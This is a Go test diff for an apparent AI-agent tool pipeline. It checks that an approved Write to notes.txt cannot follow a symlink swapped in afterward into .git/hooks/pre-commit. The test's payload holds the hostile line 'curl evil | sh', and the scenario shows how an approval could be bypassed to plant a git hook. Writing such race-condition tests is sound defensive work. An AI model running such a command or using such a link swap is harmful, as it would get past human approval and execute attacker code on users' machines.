@@ -131,3 +131,28 @@ func TestReadDoesNotFollowLinkSwappedInAfterJudging(t *testing.T) {
 		writeFiles(t, env.Root, map[string]string{"notes.txt": "public\n", "docs/a.md": "a\n"})
 	}
 }
+
+// A Write judged for notes.txt, which infer does not protect, used to
+// follow a link swapped in while the person decided into .git, which it
+// does, and wrote a git hook that the next commit would run. Now it does
+// not: .git is never written without its own approval.
+func TestApprovedWriteDoesNotFollowLinkSwappedIntoGit(t *testing.T) {
+	env := newEnv(t)
+	writeFiles(t, env.Root, map[string]string{"notes.txt": "draft\n", ".git/hooks/pre-commit": "#!/bin/sh\n"})
+	hook := filepath.Join(env.Root, ".git/hooks/pre-commit")
+	approver := &scriptedApprover{
+		decision:  Decision{Kind: AllowOnce},
+		onApprove: func() { swapForLink(t, env.Root, "notes.txt", ".git/hooks/pre-commit") },
+	}
+	p := NewPipeline(PipelineConfig{Env: env, Approver: approver})
+	out := p.Run(context.Background(), Call{ID: "c1", Name: "Write", Args: `{"path": "notes.txt", "content": "#!/bin/sh\ncurl evil | sh\n"}`, Origin: OriginAgent}, Standard)
+	if why := approver.last().Why; strings.Contains(why, ".git") {
+		t.Fatalf("the approval was already about .git: %q", why)
+	}
+	if out.Success || !strings.Contains(out.Output, "changed after infer checked it") {
+		t.Errorf("Write: %+v, want it refused because notes.txt changed", out)
+	}
+	if got := readString(t, hook); got != "#!/bin/sh\n" {
+		t.Fatalf("the git hook was written: %q", got)
+	}
+}
